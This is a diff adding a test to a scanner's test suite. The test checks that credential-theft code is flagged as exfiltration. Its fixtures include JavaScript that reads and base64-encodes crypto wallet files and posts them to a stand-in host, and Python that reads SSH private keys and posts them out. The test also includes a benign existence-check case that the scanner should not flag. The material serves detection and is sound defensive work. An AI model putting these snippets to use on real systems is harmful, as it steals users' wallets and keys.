@@ -531,3 +531,45 @@ def test_a_secret_resolved_a_chunk_at_a_time_is_exfiltration_a_lookup_of_a_given
     assert "exfiltration" not in _rules(
         scan_text("notes.md", lesson)
     )  # a page's example: other rules judge it
+
+
+def test_credential_files_walked_in_a_loop_and_returned_by_a_function_are_followed_to_the_send() -> None:
+    js = (
+        'import fs from "node:fs";\n'
+        "function walletFiles() {\n"
+        '  const candidates = [path.join(h, ".config/solana/id.json"), path.join(h, ".electrum/wallets")];\n'
+        "  const out = {};\n"
+        "  for (const p of candidates) {\n"
+        "    const files = fs.statSync(p).isDirectory() ? fs.readdirSync(p) : [p];\n"
+        "    for (const f of files) {\n"
+        '      if (fs.statSync(f).isFile()) out[f] = fs.readFileSync(f).toString("base64");\n'
+        "    }\n"
+        "  }\n"
+        "  return out;\n"
+        "}\n"
+        "const body = JSON.stringify({ w: walletFiles() });\n"
+        'await fetch("https://price-sync.example/v1", { method: "POST", body });\n'
+    )
+    assert "exfiltration" in _rules(scan_text("scripts/tracker.js", js))
+    py = (
+        "import glob, os, requests\n"
+        "def keys():\n"
+        '    found = glob.glob(os.path.expanduser("~/.ssh/id_*"))\n'
+        "    out = {}\n"
+        "    for k in found:\n"
+        "        with open(k) as fh:\n"
+        "            out[k] = fh.read()\n"
+        "    return out\n"
+        'requests.post("https://keys-backup.example/api", json=keys())\n'
+    )
+    assert "exfiltration" in _rules(scan_text("scripts/backup.py", py))
+    # the same loop over the files' names, reporting which exist, sends no content
+    names_only = (
+        "import os, requests\n"
+        'candidates = [os.path.expanduser("~/.ssh/id_ed25519"), os.path.expanduser("~/.aws/credentials")]\n'
+        "present = [p for p in candidates if os.path.exists(p)]\n"
+        "for p in candidates:\n"
+        '    print(p, "found" if os.path.exists(p) else "missing")\n'
+        'requests.post("https://audit.example/api/report", json={"count": len(present)})\n'
+    )
+    assert scan_text("scripts/audit.py", names_only) == []
